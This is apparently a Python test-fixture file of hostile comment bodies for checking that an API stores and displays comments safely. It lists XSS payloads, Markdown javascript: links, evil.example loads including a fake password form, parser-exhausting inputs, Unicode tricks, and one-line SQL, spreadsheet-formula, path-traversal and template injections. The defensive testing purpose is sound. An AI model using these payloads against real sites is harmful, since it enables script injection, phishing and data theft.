"""Comments that nobody should be able to do harm with: each must be stored, shown as dull text and run nowhere.

`SCRIPTS` try to run or to fetch something, `HEAVY` to take more time or space than their length deserves, `CONFUSING`
to disturb what stands around them. Every one of them is a body that the API may get; some it will refuse.
"""

MOST_CHARACTERS = 8_000
"""As long as a body may be."""

ALERT = "alert(document.domain)"


def filled(piece: str, *, before: str = "", after: str = "") -> str:
    """Answer `piece` as often as a body has room for it."""
    return before + piece * ((MOST_CHARACTERS - len(before) - len(after)) // len(piece)) + after


SCRIPTS = [
    # HTML as it is
    f"<script>{ALERT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{ALERT}",
    f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    f"<img src=x onerror={ALERT}>",
    f"<img src='x' onerror\n=\n'{ALERT}'>",
    f"<svg/onload={ALERT}>",
    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
    f"<svg><script>{ALERT}<!--</script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ALERT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>",
    f"<template><img src=x onerror={ALERT}></template>",
    f"<details open ontoggle={ALERT}>x</details>",
    f"<body onload={ALERT}>",
    f"<iframe srcdoc='<script>{ALERT}</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://evil.example' onclick=alert(1) style='position:fixed;inset:0'>x</a>",
    "<p style='background:url(//evil.example)'>x</p>",
    f"<input autofocus onfocus={ALERT}>",
    "<video><source onerror=alert(1)></video>",
    "</p></div></belowline-comments><h1>Out</h1>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><? alert(1) ?>",
    "<x-y is=script>alert(1)</x-y>",
    "< script >alert(1)< / script >",
    "<img src=x onerror=alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "＜script＞alert(1)＜/script＞",  # noqa: RUF001 - that they look like the plain signs is the point
    "<script\x00>alert(1)</script\x00>",
    # Markdown links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](java&#10;script:alert&lpar;1&rpar;)",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](https://evil.example/pixel.gif)",
    '![x](x"onerror="alert(1))',
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/moderate#token=1)",
    "[x](https:evil.example)",
    "[x](http:\\\\evil.example)",
    '[x](https://evil.example "onmouseover=alert(1)")',
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example/'><script>alert(1)</script>)",
    "[x](https://evil.example/?<script>alert(1)</script>)",
    "[x]()",
    "[](https://evil.example)",
    "[<script>alert(1)</script>](https://evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: https://evil.example 'onclick=alert(1)'",
    "<javascript:alert(1)>",
    "<vbscript:x>",
    "<data:text/html,x>",
    "<https://evil.example/onmouseover=alert(1)//>",
    # bare addresses
    "javascript:alert(1)",
    "javascript://evil.example/%0Aalert(1)",
    "//evil.example",
    'https://evil.example/"onmouseover="alert(1)"',
    "https://evil.example/'onmouseover='alert(1)'",
    "https://evil.example/<script>alert(1)</script>",
    "https://evil.example/`<img src=x onerror=alert(1)>`",
    "http://xn--80ak6aa92e.com",
    "https://bank.example@evil.example",
    # code
    '```"><script>alert(1)</script>\nx\n```',
    "``` onmouseover=alert(1)\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    # one inside the other
    "[a](https://a.example/[b](javascript:alert(1)))",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "*<img src=x onerror=*alert(1)*>*",
    "> <script>\n> alert(1)\n> </script>",
    "- <script>\n- alert(1)\n- </script>",
    "# <img src=x onerror=alert(1)>",
    "|<script>|\n|-|\n|alert(1)|",
    # templates of whatever shows it
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
]

HEAVY = [
    *(filled(piece) for piece in (">", "> ", ">\n", ">\n\n", "> > ", "- ", "-\n", "* ", "1. ", "1)\n2.\n", "*\n-\n")),
    *(filled(piece) for piece in ("*", "_", "**", "*a ", "*a*", "a**b", "**a *a ", "_a __a ", "*_", "*a_ ", "***a* ")),
    *(filled(piece) for piece in ("`", "`a", "``a```", "~", "```\n", "~~~\n\n", "` `` ")),
    *(filled(piece) for piece in ("[", "]", "[]", "[](", "[a](", "[a](<b", "![", "![[]()", "[a](b", "[a][", "](")),
    *(filled(piece) for piece in ("<", "<a", "<!--", "<?", "<![CDATA[", "<http:", "<http:a>", "&", "&amp", "&#x", '"')),
    *(
        filled(piece)
        for piece in ("\n", " ", "\t", " \n", "\\", "\\\n", "    a\n", "a\n", "a  \n", "---\n", "|-", "|a|\n")
    ),
    *(filled(piece) for piece in ("http://", "http://a", "http://a.b ", "https://a.b/(", "http:", "a@b.c ", "//a.b ")),
    *(filled(piece) for piece in ("[](http://a)", "[a](http://a)\n", "[x]: y\n", "[a]: b 'c\n", "(((", ")", "a:", ".")),
    "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + "|\n" * 1_900,
    "".join(f"{' ' * depth}- a\n" for depth in range(122)),
    "".join("`" * length + " " for length in range(1, 124)),
    filled("`", before="a" * 4_000),
    filled(")", before="[a](" + "(" * 3_000),
    filled("a", before="http://", after="."),
    filled("/a.", before="http://a.b"),
    filled("[", after="](http://a.b)"),
    filled("[a](", after=")"),
    filled("> ", after="deep"),
    filled("* a **b ", after="*"),
]

CONFUSING = [
    "\u202egnihtyna\u202c and on",
    "\u2066\u2067\u2068 never closed",
    "\u200f\u200e\u061c",
    "a\u200bb\u200c\u200d\ufeff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d",
    filled("\u0300", before="a"),
    filled("\u202e"),
    filled("😀"),
    filled("🏳️‍🌈"),
    filled("﷽"),
    filled("\U0001242b"),
    "a\x00b",
    "\x00",
    "\x1b[31mred\x1b[0m \x07",
    "\r\n\r\n\r",
    "\u2028\u2029\x85",
    "\ufffe\uffff\U0010ffff",
    "NULL null undefined NaN true -0 1e999 __proto__ constructor",
    "'; DROP TABLE comments; --",
    "=cmd|' /C calc'!A0",
    "../../../etc/passwd %s%n%x {0} {0.__class__}",
    "\u3164\u115f\u2800",
]

INPUTS = [*SCRIPTS, *HEAVY, *CONFUSING]
